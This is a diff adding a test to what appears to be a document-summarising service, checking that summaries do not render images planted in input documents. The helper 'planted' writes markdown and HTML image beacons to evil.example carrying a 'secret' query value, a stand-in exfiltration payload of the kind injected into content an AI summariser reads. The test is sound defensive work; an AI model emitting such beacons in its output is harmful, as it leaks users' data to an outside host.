@@ -245,6 +245,22 @@ async def test_a_run_says_kind_path_and_title_and_is_tagged_with_what_people_loo
     assert {*run.tags} == {"summary", "chunked", DEFAULT_MODEL, "simulated"}
 
 
+def planted(folder: Path) -> str:
+    """A document of which every sentence would have a browser ask a stranger."""
+    source = Path(chapters(folder))
+    beacons = "and ![a lamp](https://evil.example/a.png?of=secret) beside <img src=https://evil.example/b.png> "
+    source.write_text(source.read_text().replace("and trimmed", f"{beacons}and trimmed"))
+    return str(source)
+
+
+async def test_a_result_makes_no_browser_load_what_a_document_planted(tmp_path: Path):
+    report = await document_job([planted(tmp_path)], Kind.SUMMARY, PathChoice.CHUNKED, Depth.EXHAUSTIVE)
+    shown = await artifact(f"result-{report['job_id']}")
+    assert "https://evil.example/a.png" in shown  # a reader may see it
+    assert "![" not in shown
+    assert "<img" not in shown
+
+
 async def test_a_run_of_a_finished_job_shows_its_result_again(tmp_path: Path):
     job_id = await registered(chapters(tmp_path))
     await registered_job(job_id)
